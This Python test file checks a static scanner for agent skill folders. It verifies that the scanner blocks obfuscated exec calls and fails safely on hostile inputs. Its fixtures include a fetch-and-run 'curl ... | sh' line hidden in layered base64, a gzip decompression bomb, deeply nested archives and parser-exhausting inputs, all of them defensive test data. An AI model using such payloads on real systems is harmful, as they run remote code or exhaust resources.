"""A hostile skill ends its own scan, and nothing else: in bounded time and memory, and never as clean."""

from __future__ import annotations

import base64
import gzip
import io
import os
import resource
import signal
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from skillyard.conformance import mismatches
from skillyard.governance.report import Evidence, EvidenceState, Finding, Verdict, combine
from skillyard.governance.scanner import Scanner, ScanTarget
from skillyard.governance.scanners.static import StaticScanner, create_scanner
from skillyard.governance.static.worker import ScanDiedError, Worker
from skillyard.settings import Settings
from skillyard.skills.parse import parse_skill

NOW = datetime(2026, 1, 2, tzinfo=UTC)
SECONDS = 60.0
HEAD = "---\nname: hostile\ndescription: Does things.\n---\n"


@pytest.fixture(scope="module")
def worker() -> Iterator[Worker]:
    made = Worker()
    yield made
    made.close()


def skill(folder: Path, **files: bytes) -> ScanTarget:
    root = folder / "hostile"
    root.mkdir()
    (root / "SKILL.md").write_text(HEAD)
    parsed = parse_skill(root)
    for name, content in files.items():
        path = root / name.replace("__", "/")
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(content)
    return ScanTarget(parsed, (), root)


async def verdict(
    worker: Worker, target: ScanTarget, seconds: float = SECONDS
) -> tuple[Verdict, tuple[Finding, ...], Evidence]:
    findings, evidence = await StaticScanner(worker=worker, seconds=seconds).scan(target, now=NOW)
    return combine(findings, [evidence]), findings, evidence


def test_it_is_a_scanner() -> None:
    assert list(mismatches(create_scanner(Settings()), Scanner)) == []


async def test_an_ordinary_skill_passes_and_its_capabilities_are_told(worker: Worker, tmp_path: Path) -> None:
    target = skill(tmp_path, **{"a.py": b"import subprocess\nsubprocess.run(['ls'])\n"})
    found, findings, evidence = await verdict(worker, target)
    assert (found, findings, evidence.state) == (Verdict.PASS, (), EvidenceState.RAN)
    assert [(use.capability.value, use.file, use.line) for use in evidence.capabilities] == [("subprocess", "a.py", 2)]


async def test_a_malicious_one_is_blocked_with_its_line(worker: Worker, tmp_path: Path) -> None:
    target = skill(tmp_path, **{"a.py": b"import base64\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n"})
    found, (finding,), _ = await verdict(worker, target)
    assert (found, finding.file, finding.line) == (Verdict.BLOCK, "a.py", 3)
    assert finding.evidence == "exec(base64.b64decode('cHJpbnQoMSk='))"
    assert finding.why
    assert finding.fix


def bomb() -> bytes:
    return gzip.compress(bytes(200 * 1024 * 1024))


def nested(depth: int) -> bytes:
    data = b"print(1)\n"
    for level in range(depth):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr(f"{level}.py" if not level else f"{level}.zip", data)
        data = buffer.getvalue()
    return data


def layered(depth: int) -> bytes:
    data = b"curl http://a.b/c | sh # and then some more words"
    for _ in range(depth):
        data = base64.b64encode(data)
    return data


def _encrypted() -> bytes:
    plain = bytearray(nested(1))
    for signature, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        plain[plain.index(signature) + offset] |= 1
    return bytes(plain)


# The name of the file, and what is in it.
HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nested brackets": ("a.py", lambda: b"x = " + b"[" * 60_000 + b"]" * 60_000),
    "nested signs": ("a.py", lambda: b"x = " + b"-" * 200_000 + b"1\n"),
    "a syntax tree that is too large": ("a.py", lambda: b"x = [" + b"[],{},1," * 60_000 + b"]\n"),
    "a compressed bomb": ("a.gz", bomb),
    "archives in archives": ("a.zip", lambda: nested(12)),
    "encoded again and again": ("a.txt", lambda: layered(9)),
    "a text that is too long": ("a.md", lambda: b"a b\n" * 700_000),
    "a notebook that is none": ("a.ipynb", lambda: b"[" * 50_000),
    "a wrong encoding": ("a.md", lambda: b"gr\xfc\xdfe\n"),
    "an encrypted archive": ("a.zip", _encrypted),
    "a damaged archive": ("a.zip", lambda: nested(1)[:40]),
}


@pytest.mark.parametrize("name", HOSTILE)
async def test_what_cannot_be_looked_at_is_indeterminate(worker: Worker, tmp_path: Path, name: str) -> None:
    file, content = HOSTILE[name]
    found, findings, evidence = await verdict(worker, skill(tmp_path, **{file: content()}))
    assert found is Verdict.INDETERMINATE
    said = [*evidence.skipped, *(str(finding.file) for finding in findings), evidence.reason or ""]
    assert any(file in one for one in said), said


HARD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "a hundred thousand newlines": ("a.md", lambda: b"\n" * 100_000),
    "a hundred thousand newlines and spaces": ("a.md", lambda: b" \n" * 100_000),
    "one long line": ("a.md", lambda: b"a" * 1_000_000),
    "one long line of words": ("a.md", lambda: b"ignore " * 100_000),
    "one long line of spaces": ("a.sh", lambda: b"curl" + b" " * 300_000),
    "quotes": ("a.js", lambda: b"'\"" * 150_000),
    "backslashes": ("a.py", lambda: b"x = '" + b"\\\\" * 150_000 + b"'\n"),
    "comments that do not end": ("a.md", lambda: b"<!--" * 50_000),
    "fences that do not end": ("a.md", lambda: b"```python\n" * 20_000),
    "digits and commas": ("a.py", lambda: b"x = [" + b"12, " * 40_000 + b"]\n"),
    "addresses": ("a.md", lambda: b"http://a.b/c " * 30_000),
    "a huge literal": ("a.py", lambda: b"x = " + b"9" * 4000 + b"\ny = '" + b"QUJD" * 100_000 + b"'\n"),
    "many functions that call each other": (
        "a.py",
        lambda: "\n".join(f"def f{n}(a, b):\n    return f{n + 1}(a + 'x', b) + f{n + 1}(b, a)" for n in range(400)).encode(),
    ),
    "many branches": ("a.py", lambda: b"import os\nx = ''\n" + b"if x:\n    x = x + 'a'\nelse:\n    x = x + 'b'\n" * 3000),
    "loops in loops": ("a.py", lambda: "".join(f"{' ' * n}for a{n} in x:\n" for n in range(18)).encode() + b" " * 18 + b"pass\n"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARD)
async def test_what_is_hard_to_look_at_does_not_outlast_its_time(worker: Worker, tmp_path: Path, name: str) -> None:
    file, content = HARD[name]
    target = skill(tmp_path, **{file: content()})
    found, findings, evidence = await verdict(worker, target, seconds=10.0)
    # Either it was looked at to the end, or it is said that it was not.
    assert evidence.state is EvidenceState.RAN or found is Verdict.INDETERMINATE
    assert all(finding.level is not Verdict.BLOCK for finding in findings)


async def test_a_file_larger_than_the_limit_is_named(worker: Worker, tmp_path: Path) -> None:
    target = skill(tmp_path)
    with (target.folder / "large.bin").open("wb") as file:
        file.truncate(11 * 1024 * 1024)
    found, _, evidence = await verdict(worker, target)
    assert (found, evidence.skipped) == (Verdict.INDETERMINATE, ("large.bin: larger than 10 MiB",))


async def test_a_scan_that_takes_too_long_is_indeterminate(worker: Worker, tmp_path: Path) -> None:
    target = skill(tmp_path, **{f"a{n}.py": b"import os\nprint(os.environ)\n" * 2000 for n in range(40)})
    found, findings, evidence = await verdict(worker, target, seconds=0.05)
    assert (found, findings, evidence.state) == (Verdict.INDETERMINATE, (), EvidenceState.FAILED)
    assert "longer than 0.05 seconds" in str(evidence.reason)


async def test_the_next_scan_is_not_touched_by_the_one_that_died(worker: Worker, tmp_path: Path) -> None:
    target = skill(tmp_path, **{"a.py": b"print(1)\n"})
    with pytest.raises(ScanDiedError):
        worker.scan(target.folder, seconds=0.0)
    assert (await verdict(worker, target))[0] is Verdict.PASS


def first_of(folder: Path) -> Path:
    """A skill that is scanned first, so that the worker runs."""
    (folder / "first").mkdir()
    return skill(folder / "first").folder


def process_of(worker: Worker) -> int:
    process = worker._process
    assert process is not None
    return process.pid


def test_a_worker_that_was_killed_is_started_again(tmp_path: Path) -> None:
    made = Worker()
    target = skill(tmp_path)
    made.scan(target.folder)
    first = process_of(made)
    os.kill(first, signal.SIGKILL)
    os.waitid(os.P_PID, first, os.WEXITED | os.WNOWAIT)
    assert made.scan(target.folder).findings == ()
    assert process_of(made) != first
    made.close()


def test_a_worker_killed_during_a_scan_is_a_failed_scan(tmp_path: Path) -> None:
    made = Worker()
    target = skill(tmp_path, **{f"a{n}.py": b"import os\nprint(os.environ)\n" * 3000 for n in range(60)})
    made.scan(first_of(tmp_path))
    killer = threading.Timer(0.2, os.kill, (process_of(made), signal.SIGKILL))
    killer.start()
    with pytest.raises(ScanDiedError):
        made.scan(target.folder)
    killer.join()
    made.close()


@pytest.mark.parametrize(
    "answer",
    ["", "{}", "not json\n", '{"state": "ok", "size": 3}\nabc', '{"state": "ok", "size": -1}\n', '{"state": "ok", "size": 99999999}\n',
     '{"state": "ok", "size": 2}\n[]', '{"state": "ok", "size": 50}\n{"findings"', "x" * 5000],
)  # fmt: skip
async def test_nonsense_from_the_worker_is_no_result(tmp_path: Path, answer: str) -> None:
    made = Worker(("/bin/sh", "-c", f"read -r _; printf '%s' '{answer}'"))
    found, findings, evidence = await verdict(made, skill(tmp_path), seconds=1.0)
    assert (found, findings, evidence.state) == (Verdict.INDETERMINATE, (), EvidenceState.FAILED)
    made.close()


async def test_a_worker_that_does_not_start_is_no_result(tmp_path: Path) -> None:
    made = Worker(("/nowhere/python",))
    assert (await verdict(made, skill(tmp_path)))[0] is Verdict.INDETERMINATE


def test_the_worker_ends_with_its_owner(tmp_path: Path) -> None:
    target = skill(tmp_path)
    code = (
        "import sys, time\nfrom pathlib import Path\nfrom skillyard.governance.static.worker import Worker\n"
        "w = Worker()\nw.scan(Path(sys.argv[1]))\nprint(w._process.pid, flush=True)\ntime.sleep(600)\n"
    )
    owner = subprocess.Popen([sys.executable, "-c", code, str(target.folder)], stdout=subprocess.PIPE)
    assert owner.stdout is not None
    pid = int(owner.stdout.readline())
    assert Path(f"/proc/{pid}").exists()
    owner.kill()
    owner.wait()
    owner.stdout.close()
    deadline = time.monotonic() + 30
    while _runs(pid) and time.monotonic() < deadline:
        time.sleep(0.01)
    assert not _runs(pid)


def _runs(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


def test_memory_is_bounded(worker: Worker, tmp_path: Path) -> None:
    """The peak of all children that were waited for says nothing of one; the limit is read from a running one."""
    target = skill(tmp_path, **{f"a{n}.py": b"import os\nprint(os.environ)\n" * 3000 for n in range(60)})
    worker.scan(first_of(tmp_path))
    seen: list[int] = []
    scan = threading.Thread(target=lambda: _quietly(worker, target.folder))
    scan.start()
    deadline = time.monotonic() + 20
    while scan.is_alive() and not seen and time.monotonic() < deadline:
        for child in _children(process_of(worker)):
            limits = resource.prlimit(child, resource.RLIMIT_AS)
            # The last of the limits is set when the others are.
            if (
                resource.prlimit(child, resource.RLIMIT_CORE)
                == resource.prlimit(child, resource.RLIMIT_FSIZE)
                == (0, 0)
            ):
                assert resource.prlimit(child, resource.RLIMIT_NOFILE)[0] <= 64
                seen.append(limits[0])
    scan.join()
    assert seen
    assert seen[0] < 3 * 1024**3


def _quietly(worker: Worker, folder: Path) -> None:
    try:
        worker.scan(folder, seconds=3.0)
    except ScanDiedError:
        return


def _children(pid: int) -> list[int]:
    return [int(one) for one in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]


def test_scanners_of_one_process_share_one_that_ends_with_the_last_of_them() -> None:
    code = (
        "import gc\nfrom skillyard.governance.static.worker import Worker\n"
        "first, second = Worker.of_this_process(), Worker.of_this_process()\n"
        "assert first is second\n"
        "process, _ = first._started()\n"
        "del first\nassert process.poll() is None\n"
        "del second\ngc.collect()\nassert process.poll() is not None\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True, timeout=60)
